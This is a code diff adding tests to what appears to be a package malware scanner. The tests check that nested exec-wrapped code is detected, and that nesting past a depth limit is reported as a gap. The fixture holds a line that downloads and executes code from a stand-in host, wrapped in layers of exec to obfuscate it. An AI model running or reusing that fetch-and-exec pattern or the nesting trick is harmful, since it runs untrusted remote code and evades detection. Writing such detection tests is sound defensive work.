@@ -85,3 +85,23 @@ def _scan(tmp_path: Path, module: str) -> list[tuple[str, Severity, int | None]]
     artifact = tmp_path / "pkg-1.0.tar.gz"
     artifact.write_bytes(A.sdist("pkg", "1.0", files))
     return [(f.rule, f.severity, f.line) for f in scan_local(artifact).findings]
+
+
+def _nested(levels: int) -> str:
+    code = (
+        "from urllib.request import urlopen;exec(urlopen('https://stage.example.invalid/a').read())"
+    )
+    for _ in range(levels):
+        code = f"exec({code!r})"
+    return code + "\n"
+
+
+def test_strings_run_within_strings_are_read_a_few_levels_deep(tmp_path: Path) -> None:
+    found = _scan(tmp_path, _nested(2))
+    assert ("code.dynamic-code", Severity.HIGH, 1) in found
+    assert not any(rule == "analysis.incomplete" for rule, _, _ in found)
+
+
+def test_code_nested_in_strings_past_the_limit_is_a_gap(tmp_path: Path) -> None:
+    found = _scan(tmp_path, _nested(6))
+    assert ("analysis.incomplete", Severity.HIGH, None) in found
